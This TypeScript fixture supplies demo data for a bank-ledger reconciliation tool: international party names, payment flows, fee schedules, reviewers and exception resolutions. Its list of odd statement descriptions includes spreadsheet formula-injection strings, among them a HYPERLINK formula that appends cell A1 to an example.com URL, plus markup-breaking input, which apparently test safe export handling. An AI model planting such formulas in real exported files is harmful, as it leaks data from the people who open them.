/** The name of the demo tenant's context. */
export const DEMO_CONTEXT = "Bank vs. ledger, Nordlicht Handels GmbH";

export const BANK = { name: "Nordbank giro 4711", type: "BANK", side: "LEFT" } as const;
export const LEDGER = { name: "General ledger 1200", type: "LEDGER", side: "RIGHT" } as const;

export const PARTIES = [
  "Müller & Söhne GmbH",
  'Bäckerei "Zum Löwen", Köln',
  "O'Brien & Partners Ltd",
  "Société Générale d'Équipement SA",
  "Łódź Logistyka Sp. z o.o.",
  "Åström Möbler AB",
  "Café de Flore, Paris",
  "Hernández e Hijos, S.L.",
  "Smith, Jones & Co. LLP",
  "Grünwald Elektro KG",
  "Rossi Fratelli S.r.l.",
  "日本商事株式会社",
  "Jansen Transport B.V.",
  "Österreichische Papier AG",
  "Dvořák Stroje s.r.o.",
  "Stadtwerke Kiel <Netz>",
  "ACME Corp.",
  "Özdemir Gıda A.Ş.",
] as const;

/** Descriptions as real statements sometimes contain them. Every report must preserve them. */
export const ODD_DESCRIPTIONS = [
  '=HYPERLINK("https://example.com/?x="&A1,"Open the invoice")',
  "@SUM(A1:A9)",
  "+49 30 901820, call back requested",
  '-5 % discount, "RE-1", as agreed',
  "First line of the statement\nSecond line of the statement",
  "SEPA\tpurpose\tSALA",
  "شركة النور للتجارة، فاتورة ٤٧١١",
  "🍕 Pizzeria Napoli, team lunch",
  "＝1+1",
  "</row><row>",
  "C:\\export\\new, path from an old ledger",
  `Collective transfer: ${"RE-100001, RE-100002, RE-100003; ".repeat(24)}end of list`,
] as const;

/** The kinds of payments: sign of the amount, and the words of bank and ledger. */
export const FLOWS = {
  invoice: { sign: 1, bank: "SEPA credit", ledger: "Receivable" },
  supplier: { sign: -1, bank: "SEPA transfer", ledger: "Payable" },
  cards: { sign: 1, bank: "Card settlement", ledger: "Card sales" },
  payroll: { sign: -1, bank: "SALA payroll", ledger: "Wages" },
  utility: { sign: -1, bank: "SEPA direct debit", ledger: "Utilities" },
  wire: { sign: 1, bank: "SWIFT wire", ledger: "Foreign receivable" },
  refund: { sign: -1, bank: "Refund", ledger: "Credit note" },
} as const;

export type Flow = keyof typeof FLOWS;

export const FLOW_WEIGHTS: Readonly<Record<Flow, number>> = {
  invoice: 46,
  supplier: 21,
  cards: 14,
  payroll: 6,
  utility: 6,
  wire: 4,
  refund: 3,
};

/** What the bank should charge: a flat fee in cents, plus basis points of the amount. */
export type FeeSchedule = {
  readonly id: string;
  readonly name: string;
  readonly flat: number;
  readonly basisPoints: number;
};

/** The fee schedules of each kind of payment. The others are free of charge. */
export const FEE_SCHEDULES: Partial<Record<Flow, readonly FeeSchedule[]>> = {
  invoice: [
    { id: "SEPA-CT-STD", name: "SEPA credit transfer, standard", flat: 12, basisPoints: 0 },
    { id: "SEPA-INST", name: "SEPA instant", flat: 25, basisPoints: 0 },
    { id: "PROMO-FREE", name: "Promotion: first 100 free", flat: 0, basisPoints: 0 },
  ],
  cards: [
    { id: "CARD-EU-DEBIT", name: "Cards, EU debit (interchange++)", flat: 5, basisPoints: 38 },
    { id: "CARD-INTL", name: "Cards, international", flat: 10, basisPoints: 250 },
  ],
  wire: [
    { id: "WIRE-SWIFT-OUR", name: 'SWIFT wire, charges "OUR"', flat: 1_500, basisPoints: 10 },
    { id: "FX-MARGIN", name: "FX margin 0.5 %", flat: 0, basisPoints: 50 },
  ],
};

export const REVIEWERS = ["anna.kowalska", "jonas.weber", "mei.tanaka", "luc.moreau"] as const;

/** The resolution of an exception whose transaction was matched later. */
export const LATE_MATCH = [
  "MATCHED_MANUALLY",
  "Found the counterpart by its amount; the reference was mistyped.",
] as const;

/** Resolutions of exceptions whose transactions stayed unmatched. */
export const RESOLUTIONS = [
  ["WRITTEN_OFF", "Below the limit of 5.00, written off."],
  ["ACCEPTED_DIFFERENCE", 'Bank confirmed a "value date" shift, accepted.'],
  ["CORRECTED_IN_LEDGER", "Posted to the wrong account; corrected by journal entry."],
] as const;
